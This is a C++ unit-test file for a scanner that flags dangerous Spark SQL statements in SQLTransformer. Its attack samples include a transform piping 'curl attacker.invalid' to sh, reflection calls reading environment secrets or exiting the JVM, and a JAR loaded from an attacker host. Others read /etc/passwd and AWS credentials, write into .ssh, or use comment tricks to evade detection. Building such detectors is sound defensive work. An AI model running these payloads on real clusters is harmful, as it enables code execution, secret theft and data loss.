// Tests of the SQLTransformer statement rules: realistic feature-engineering queries are clean,
// and every rule fires on realistic attacks and their evasions (case, comments between
// keywords, backquoted or qualified names, literal concatenation, escapes, IDENTIFIER()).
#include "analyzers/sparkml/sql_rules.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

namespace mg::sparksql {
namespace {

std::string Describe(const std::vector<SqlIssue>& issues) {
  std::string out;
  for (const SqlIssue& issue : issues) {
    out += std::string(SqlIssueKindName(issue.kind)) + " @" + std::to_string(issue.offset) + ": " +
           issue.message + "\n";
  }
  return out;
}

const SqlIssue* Find(const std::vector<SqlIssue>& issues, SqlIssueKind kind) {
  auto it = std::find_if(issues.begin(), issues.end(),
                         [kind](const SqlIssue& issue) { return issue.kind == kind; });
  return it == issues.end() ? nullptr : &*it;
}

// The statement has an issue of `kind` with `severity` whose message contains `needle`.
void ExpectIssue(std::string_view statement, SqlIssueKind kind, Severity severity,
                 std::string_view needle = "") {
  std::vector<SqlIssue> issues = AnalyzeSqlStatement(statement);
  const SqlIssue* issue = Find(issues, kind);
  ASSERT_NE(issue, nullptr) << statement << "\n" << Describe(issues);
  EXPECT_EQ(issue->severity, severity) << statement;
  EXPECT_NE(issue->message.find(needle), std::string::npos) << issue->message;
  EXPECT_FALSE(issue->excerpt.empty());
}

TEST(SparkSqlRules, RealisticFeatureQueriesAreClean) {
  const char* clean[] = {
      "SELECT *, (v1 + v2) AS v3, sqrt(v1) FROM __THIS__ WHERE v1 > 0",
      "SELECT *, CASE WHEN age < 18 THEN 'minor' WHEN age IS NULL THEN NULL ELSE 'adult' END "
      "AS bucket, CAST(income AS DECIMAL(10, 2)) AS income_d, income::double AS x FROM __THIS__",
      "SELECT id, avg(score) OVER (PARTITION BY grp ORDER BY ts ROWS BETWEEN 3 PRECEDING AND "
      "CURRENT ROW) AS rolling, row_number() OVER w AS rn FROM __THIS__ WINDOW w AS "
      "(PARTITION BY grp ORDER BY ts)",
      "SELECT a.id, a.x - b.x AS dx FROM __THIS__ a JOIN __THIS__ AS b ON a.id = b.id + 1",
      "SELECT * FROM (SELECT id, lower(trim(name)) AS name FROM __THIS__) t WHERE name <> ''",
      "WITH base AS (SELECT id, tags FROM __THIS__), counted(id, n) AS (SELECT id, size(tags) "
      "FROM base) SELECT b.*, c.n FROM base b LEFT JOIN counted c USING (id)",
      "SELECT transform(arr, x -> x + 1) AS inc, filter(arr, x -> x > 0) AS pos, "
      "aggregate(arr, 0, (acc, x) -> acc + x) AS total, exists(arr, x -> x IS NULL) AS e "
      "FROM __THIS__",
      "SELECT /*+ BROADCAST(t) */ id, extract(YEAR FROM ts) AS y, substring(s FROM 2 FOR 3) "
      "AS sub, trim(BOTH 'x' FROM s) AS tr FROM __THIS__ t",
      "SELECT id, col FROM __THIS__ LATERAL VIEW explode(items) t AS col",
      "SELECT id, count(DISTINCT v) FILTER (WHERE v > 0) AS n FROM __THIS__ GROUP BY id "
      "HAVING n > 1 ORDER BY id LIMIT 10;",
      "SELECT * FROM __THIS__ WHERE id IN (SELECT id FROM __THIS__ WHERE flag) AND EXISTS "
      "(SELECT 1 FROM __THIS__ x WHERE x.id = __THIS__.id)",
      "select coalesce(a, 0) as a, if(b > 1, 'y', 'n') as b, date_format(ts, 'yyyy-MM') as m "
      "from __THIS__ -- monthly\n",
      "SELECT * FROM __THIS__ t(a, b), __THIS__ u",
      "SELECT builtin.abs(x) FROM __THIS__",
      "SELECT * FROM VALUES (1, 2) AS t(a, b) JOIN __THIS__ USING (a)",
      "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) AS med FROM __THIS__",
      "SELECT id FROM __THIS__ GROUP BY GROUPING SETS ((id), ()) UNION TABLE __THIS__",
      "SELECT * FROM __THIS__ PIVOT (sum(v) FOR k IN ('a', 'b')) TABLESAMPLE (10 PERCENT)",
      "SELECT CAST(x AS ARRAY<STRUCT<a: INT>>), named_struct('a', 1), map('k', 1) FROM __THIS__",
      "SELECT * FROM __THIS__ a, LATERAL (SELECT a.x) b CROSS JOIN range(3)",
  };
  for (const char* statement : clean) {
    std::vector<SqlIssue> issues = AnalyzeSqlStatement(statement);
    EXPECT_TRUE(issues.empty()) << statement << "\n" << Describe(issues);
  }
}

TEST(SparkSqlRules, ScriptTransformIsCritical) {
  ExpectIssue("SELECT TRANSFORM(id) USING 'curl attacker.invalid | sh' AS (out) FROM __THIS__",
              SqlIssueKind::kScriptTransform, Severity::kCritical, "curl attacker.invalid");
  ExpectIssue(
      "select transform (a, b) row format delimited fields terminated by '\\t' "
      "using '/bin/sh -c id' as (c string) from __THIS__",
      SqlIssueKind::kScriptTransform, Severity::kCritical, "/bin/sh -c id");
  // Comments between the keywords and a command split over concatenated literals.
  ExpectIssue("SELECT TRANSFORM/*x*/(id) UsInG /* y */ 'ba' \"sh\" FROM __THIS__",
              SqlIssueKind::kScriptTransform, Severity::kCritical, "'bash'");
  ExpectIssue("FROM __THIS__ MAP id USING 'cat' AS x", SqlIssueKind::kScriptTransform,
              Severity::kCritical, "cat");
  ExpectIssue("SELECT TRANSFORM(id) RECORDWRITER 'org.example.Writer' USING 'cat' FROM __THIS__",
              SqlIssueKind::kScriptTransform, Severity::kCritical, "org.example.Writer");
}

TEST(SparkSqlRules, CommentsAndStringsDoNotHideOrInventCode) {
  // Text in strings is data; comments are not code in any Spark release.
  EXPECT_TRUE(AnalyzeSqlStatement("SELECT '--', 'reflect(1)', '/*' /* USING 'sh' */ FROM __THIS__ "
                                  "-- reflect('a', 'b')")
                  .empty());
  // The code after the nested comment is still seen.
  ExpectIssue("SELECT /* /* */ */ java_method('java.lang.System', 'exit', 0) FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "exit");
  // Hint parameters are expressions: calls there are judged too.
  ExpectIssue("SELECT /*+ REPARTITION(reflect('java.lang.Thread', 'sleep', 1L)) */ * FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "sleep");
}

TEST(SparkSqlRules, AHintMarkerInsideACommentDoesNotHideCode) {
  // '/*+' nests no comment, so the first '*/' ends the comment and reflect runs.
  ExpectIssue("SELECT /* note /*+ */ reflect('java.lang.Thread', 'sleep', 1000L) AS r -- */\n"
              "FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.Thread.sleep");
}

TEST(SparkSqlRules, OlderSparkReleasesReadCommentsDifferently) {
  // Spark 2.x and 3.0: comments do not nest, so this java_method call runs there.
  ExpectIssue("SELECT a /* /* */ , java_method('java.lang.System', 'exit', 1) AS b -- */\n"
              "FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "Spark 3.0");
  // Spark 2.x: a backslash does not continue a '--' comment.
  ExpectIssue("SELECT x -- note \\\nreflect('java.lang.System', 'exit', 1)\nFROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "Spark 2.x");
  // The current reading stays first and unannotated.
  std::vector<SqlIssue> issues =
      AnalyzeSqlStatement("SELECT reflect('a', 'b') /* /* */ */ FROM __THIS__");
  ASSERT_FALSE(issues.empty());
  EXPECT_EQ(issues[0].message.find("read as"), std::string::npos) << Describe(issues);
  // A statement every release reads alike has one set of issues.
  EXPECT_TRUE(AnalyzeSqlStatement("SELECT a /* note */, b -- c\nFROM __THIS__").empty());
}

TEST(SparkSqlRules, VariableSubstitutionIsDynamicSql) {
  // ${x} of an unset setting becomes "": ref${x}lect is reflect.
  ExpectIssue("SELECT ref${x}lect('java.lang.System', 'exit', 1) FROM __THIS__",
              SqlIssueKind::kDynamicSql, Severity::kCritical, "${x}");
  ExpectIssue("SELECT ref${x}lect('java.lang.System', 'exit', 1) FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "substitution");
  // ${system:line.separator} ends a '--' comment; environment values leak secrets.
  ExpectIssue("SELECT a FROM __THIS__ -- ${system:line.separator} , reflect('a', 'b')",
              SqlIssueKind::kDynamicSql, Severity::kCritical, "system:line.separator");
  ExpectIssue("SELECT '${env:AWS_SECRET_ACCESS_KEY}' AS k, * FROM __THIS__",
              SqlIssueKind::kDynamicSql, Severity::kCritical, "env:AWS_SECRET_ACCESS_KEY");
  // Not references: no '}', a space inside, "${}" alone.
  EXPECT_TRUE(AnalyzeSqlStatement("SELECT '${', '${ x}', '$x}', '${}' FROM __THIS__").empty());
  std::vector<VariableReference> found = FindVariableReferences("a ${hiveconf:k} ${}} ${b c}");
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].prefix, "hiveconf");
  EXPECT_EQ(found[0].length, 13u);
  EXPECT_EQ(found[1].offset, 16u);  // "${}}": the name is "}"
}

TEST(SparkSqlRules, AUidPastedOverThisCanChangeTheStatement) {
  // SQLTransformer replaces __THIS__ by "<uid>_<hex>": with "--" in the uid, the rest of the
  // line becomes a comment and the block comment below never opens.
  const char* statement =
      "SELECT a FROM __THIS__ /*\n, reflect('java.lang.System', 'exit', 1) AS r\n-- */";
  EXPECT_TRUE(AnalyzeSqlStatement(statement).empty());
  EXPECT_TRUE(AnalyzeSqlStatement(statement, {}, "SQLTransformer_4b6f1a2c9d0e").empty());
  std::vector<SqlIssue> issues = AnalyzeSqlStatement(statement, {}, "SQL--x");
  const SqlIssue* issue = Find(issues, SqlIssueKind::kReflection);
  ASSERT_NE(issue, nullptr) << Describe(issues);
  EXPECT_EQ(issue->severity, Severity::kCritical);
  EXPECT_NE(issue->message.find("uid 'SQL--x'"), std::string::npos) << issue->message;
  // Offsets point into the statement, not into the longer rewritten text.
  const std::string long_uid(200, '-');
  const std::string many = "SELECT a FROM __THIS__ /* __THIS__ __THIS__ */ , reflect('a', 'b')";
  for (const SqlIssue& each : AnalyzeSqlStatement(many, {}, long_uid)) {
    EXPECT_LE(each.offset, many.size()) << each.message;
  }
  const std::string substituted = "SELECT ${a}${b}${c} ref${x}lect('a', 'b')";
  std::vector<SqlIssue> found = AnalyzeSqlStatement(substituted);
  ASSERT_NE(Find(found, SqlIssueKind::kReflection), nullptr) << Describe(found);
  EXPECT_EQ(Find(found, SqlIssueKind::kReflection)->offset, substituted.find("ref$"));
  for (const SqlIssue& each : found) EXPECT_LE(each.offset, substituted.size()) << each.message;
}

TEST(SparkSqlRules, HigherOrderTransformIsNotAScript) {
  std::vector<SqlIssue> issues = AnalyzeSqlStatement(
      "SELECT transform(arr, (x, i) -> x * i) AS y FROM __THIS__ JOIN __THIS__ b USING (id)");
  EXPECT_EQ(Find(issues, SqlIssueKind::kScriptTransform), nullptr) << Describe(issues);
}

TEST(SparkSqlRules, ReflectionFunctionsAreCritical) {
  ExpectIssue("SELECT reflect('java.lang.Thread', 'sleep', 100000L) FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.Thread.sleep");
  ExpectIssue("SELECT JAVA_METHOD('java.lang.System', 'getenv', 'AWS_SECRET') AS x FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.System.getenv");
  ExpectIssue("SELECT try_reflect('java.lang.System','setProperty','a','b') FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "setProperty");
  ExpectIssue("SELECT `reflect`('java.util.UUID', 'randomUUID') FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.util.UUID.randomUUID");
  ExpectIssue("SELECT system.builtin.reflect('java.lang.Sys' 'tem', 'getenv') FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.System.getenv");
  ExpectIssue("SELECT Reflect /* c */ ('java.lang.\\u0053ystem', 'getenv') FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.System");
  // With spark.sql.ansi.doubleQuotedIdentifiers on, "reflect" is a function name.
  ExpectIssue("SELECT \"reflect\"('java.lang.System', 'getenv') FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "getenv");
  ExpectIssue("SELECT IDENTIFIER('reflect')('java.lang.System', 'exit', 1) FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical, "java.lang.System.exit");
  ExpectIssue("SELECT IDENTIFIER('ref' || 'lect')('java.lang.System', 'exit') FROM __THIS__",
              SqlIssueKind::kDynamicSql, Severity::kCritical, "IDENTIFIER");
}

TEST(SparkSqlRules, CodeLoadingCommandsAreCritical) {
  ExpectIssue("ADD JAR 'https://attacker.invalid/x.jar'", SqlIssueKind::kCodeLoading,
              Severity::kCritical, "https://attacker.invalid/x.jar");
  ExpectIssue("add /* */ archive '/tmp/a.zip'", SqlIssueKind::kCodeLoading, Severity::kCritical);
  ExpectIssue(
      "CREATE OR REPLACE TEMPORARY FUNCTION f AS 'org.example.Evil' USING JAR "
      "'hdfs://attacker.invalid/e.jar'",
      SqlIssueKind::kCodeLoading, Severity::kCritical, "org.example.Evil");
  ExpectIssue("CREATE FUNCTION area(x DOUBLE) RETURNS DOUBLE RETURN x * x", SqlIssueKind::kCommand,
              Severity::kHigh, "CREATE FUNCTION");
}

TEST(SparkSqlRules, DynamicSqlIsCritical) {
  ExpectIssue("EXECUTE IMMEDIATE 'SELECT re' || 'flect(1)'", SqlIssueKind::kDynamicSql,
              Severity::kCritical, "EXECUTE IMMEDIATE");
  ExpectIssue("BEGIN DECLARE x INT; SET x = 1; SELECT x; END", SqlIssueKind::kDynamicSql,
              Severity::kCritical, "BEGIN");
  std::vector<SqlIssue> issues = AnalyzeSqlStatement("lbl: BEGIN SELECT 1; SELECT 2; END");
  ASSERT_NE(Find(issues, SqlIssueKind::kDynamicSql), nullptr) << Describe(issues);
  EXPECT_EQ(Find(issues, SqlIssueKind::kMultipleStatements), nullptr) << Describe(issues);
}

TEST(SparkSqlRules, InsertDirectoryIsCritical) {
  ExpectIssue("INSERT OVERWRITE LOCAL DIRECTORY '/home/u/.ssh' SELECT * FROM __THIS__",
              SqlIssueKind::kWriteDirectory, Severity::kCritical, "/home/u/.ssh");
  ExpectIssue("FROM __THIS__ INSERT OVERWRITE DIRECTORY 's3a://b/x' SELECT *",
              SqlIssueKind::kWriteDirectory, Severity::kCritical, "s3a://b/x");
}

TEST(SparkSqlRules, CommandsAreReported) {
  ExpectIssue("DROP TABLE IF EXISTS prod.customers", SqlIssueKind::kCommand, Severity::kHigh,
              "DROP");
  ExpectIssue("insert into audit select * from __THIS__", SqlIssueKind::kCommand, Severity::kHigh,
              "INSERT");
  ExpectIssue("CREATE TABLE t USING parquet LOCATION '/data' AS SELECT * FROM __THIS__",
              SqlIssueKind::kCommand, Severity::kHigh);
  ExpectIssue("TRUNCATE TABLE sales", SqlIssueKind::kCommand, Severity::kHigh);
  ExpectIssue("MERGE INTO t USING __THIS__ s ON t.id = s.id WHEN MATCHED THEN DELETE",
              SqlIssueKind::kCommand, Severity::kHigh);
  ExpectIssue("CACHE TABLE c AS SELECT * FROM __THIS__", SqlIssueKind::kCommand, Severity::kMedium);
  ExpectIssue("USE other_db", SqlIssueKind::kCommand, Severity::kMedium);
  ExpectIssue("RESET", SqlIssueKind::kCommand, Severity::kMedium);
  ExpectIssue("SHOW TABLES", SqlIssueKind::kNotQuery, Severity::kMedium, "SHOW");
}

TEST(SparkSqlRules, SetConfigurationIsHigh) {
  ExpectIssue("SET spark.hadoop.fs.s3a.endpoint=http://attacker.invalid", SqlIssueKind::kSetConfig,
              Severity::kHigh, "fs.s3a.endpoint");
  ExpectIssue("set `spark.sql.runSQLOnFiles` = true", SqlIssueKind::kSetConfig, Severity::kHigh);
  ExpectIssue("SET TIME ZONE 'UTC'", SqlIssueKind::kCommand, Severity::kMedium, "TIME ZONE");
}

TEST(SparkSqlRules, FilePathRelationsAreHigh) {
  ExpectIssue("SELECT * FROM parquet.`/data/other/part-0.parquet`", SqlIssueKind::kFileRelation,
              Severity::kHigh, "/data/other");
  ExpectIssue("SELECT a.*, b.value FROM __THIS__ a JOIN text.`s3a://bucket/x.txt` b",
              SqlIssueKind::kFileRelation, Severity::kHigh, "s3a://bucket/x.txt");
  ExpectIssue("SELECT * FROM `binaryFile`.`hdfs://nn/dir`", SqlIssueKind::kFileRelation,
              Severity::kHigh, "binaryFile");
  ExpectIssue("SELECT * FROM __THIS__, json.s3a://bucket/k.json", SqlIssueKind::kFileRelation,
              Severity::kHigh, "s3a://bucket/k.json");
}

TEST(SparkSqlRules, ReadFilesIsAFileRelation) {
  ExpectIssue("SELECT * FROM read_files('s3://bucket/data/', format => 'csv')",
              SqlIssueKind::kFileRelation, Severity::kHigh, "s3://bucket/data/");
}

TEST(SparkSqlRules, DdlTargetsAreNotFunctionCalls) {
  std::vector<SqlIssue> issues =
      AnalyzeSqlStatement("CREATE TABLE IF NOT EXISTS t (a INT) USING parquet OPTIONS (path '/x')");
  EXPECT_EQ(Find(issues, SqlIssueKind::kUnknownFunction), nullptr) << Describe(issues);
  EXPECT_NE(Find(issues, SqlIssueKind::kCommand), nullptr) << Describe(issues);
}

TEST(SparkSqlRules, CredentialPathsAreCritical) {
  ExpectIssue("SELECT * FROM text.`/etc/passwd`", SqlIssueKind::kCredentialPath,
              Severity::kCritical, "/etc/passwd");
  ExpectIssue("SELECT * FROM text.`file:///root/.aws/credentials`", SqlIssueKind::kCredentialPath,
              Severity::kCritical);
  ExpectIssue("SELECT * FROM csv.`ftp://user:pw@attacker.invalid/x.csv`",
              SqlIssueKind::kCredentialPath, Severity::kCritical);
}

TEST(SparkSqlRules, OtherTablesAreHigh) {
  ExpectIssue("SELECT t.*, u.ssn FROM __THIS__ t JOIN hr.users u ON t.id = u.id",
              SqlIssueKind::kOtherTable, Severity::kHigh, "hr.users");
  ExpectIssue("SELECT * FROM __THIS__, secrets", SqlIssueKind::kOtherTable, Severity::kHigh,
              "secrets");
  ExpectIssue("SELECT * FROM (SELECT * FROM accounts) x", SqlIssueKind::kOtherTable,
              Severity::kHigh, "accounts");
  ExpectIssue("SELECT * FROM (__THIS__ JOIN payroll USING (id))", SqlIssueKind::kOtherTable,
              Severity::kHigh, "payroll");
  ExpectIssue("SELECT * FROM IDENTIFIER('cat.db.tbl')", SqlIssueKind::kOtherTable, Severity::kHigh,
              "cat.db.tbl");
  ExpectIssue("SELECT * FROM __THIS__ UNION ALL TABLE staging.events", SqlIssueKind::kOtherTable,
              Severity::kHigh, "staging.events");
  ExpectIssue("TABLE users", SqlIssueKind::kOtherTable, Severity::kHigh, "users");
  // SQLTransformer replaces only the exact text __THIS__.
  ExpectIssue("SELECT * FROM __this__", SqlIssueKind::kOtherTable, Severity::kHigh);
}

TEST(SparkSqlRules, MultipleStatementsAreHigh) {
  ExpectIssue("SELECT * FROM __THIS__; DROP TABLE x", SqlIssueKind::kMultipleStatements,
              Severity::kHigh, "2 statements");
  EXPECT_TRUE(AnalyzeSqlStatement("SELECT * FROM __THIS__;;").empty());
}

TEST(SparkSqlRules, UnknownFunctionsAreMedium) {
  ExpectIssue("SELECT my_udf(x) FROM __THIS__", SqlIssueKind::kUnknownFunction, Severity::kMedium,
              "my_udf");
  ExpectIssue("SELECT db.score(x) FROM __THIS__", SqlIssueKind::kUnknownFunction, Severity::kMedium,
              "db.score");
  std::vector<SqlIssue> issues = AnalyzeSqlStatement("SELECT f(a), F(b), f(c) FROM __THIS__");
  EXPECT_EQ(std::count_if(
                issues.begin(), issues.end(),
                [](const SqlIssue& issue) { return issue.kind == SqlIssueKind::kUnknownFunction; }),
            1)
      << Describe(issues);
}

TEST(SparkSqlRules, MalformedStatementsAreUnparseable) {
  ExpectIssue("SELECT 'abc FROM __THIS__", SqlIssueKind::kUnparseable, Severity::kMedium,
              "unterminated string");
  ExpectIssue("SELECT 1 /* open", SqlIssueKind::kUnparseable, Severity::kMedium);
  // What was lexed before the error is still judged.
  ExpectIssue("SELECT reflect('java.lang.System', 'exit', 1), 'oops FROM __THIS__",
              SqlIssueKind::kReflection, Severity::kCritical);
}

TEST(SparkSqlRules, OversizedStatementsAreReported) {
  SqlLimits limits;
  limits.lex.max_statement_bytes = 32;
  std::vector<SqlIssue> issues =
      AnalyzeSqlStatement("SELECT * FROM __THIS__ WHERE a > 1 AND b > 2", limits);
  ASSERT_EQ(issues.size(), 1u);
  EXPECT_EQ(issues[0].kind, SqlIssueKind::kTooLarge);
  EXPECT_EQ(issues[0].severity, Severity::kMedium);
}

TEST(SparkSqlRules, IssuesAreOrderedBySeverityAndCarryEvidence) {
  std::vector<SqlIssue> issues = AnalyzeSqlStatement(
      "SELECT my_udf(a), reflect('java.lang.System', 'getenv', 'HOME') FROM __THIS__");
  ASSERT_GE(issues.size(), 2u) << Describe(issues);
  EXPECT_EQ(issues[0].kind, SqlIssueKind::kReflection);
  EXPECT_EQ(issues[0].offset, 18u);
  EXPECT_EQ(issues[0].excerpt.rfind("reflect('java.lang.System'", 0), 0u) << issues[0].excerpt;
}

TEST(SparkSqlRules, BuiltinListIsSortedAndCoversCommonFunctions) {
  EXPECT_TRUE(BuiltinFunctionListIsSorted());
  for (const char* name : {"sqrt", "COALESCE", "to_date", "row_number", "transform", "explode"}) {
    EXPECT_TRUE(IsSparkBuiltinFunction(name)) << name;
  }
  EXPECT_FALSE(IsSparkBuiltinFunction("my_udf"));
}

}  // namespace
}  // namespace mg::sparksql
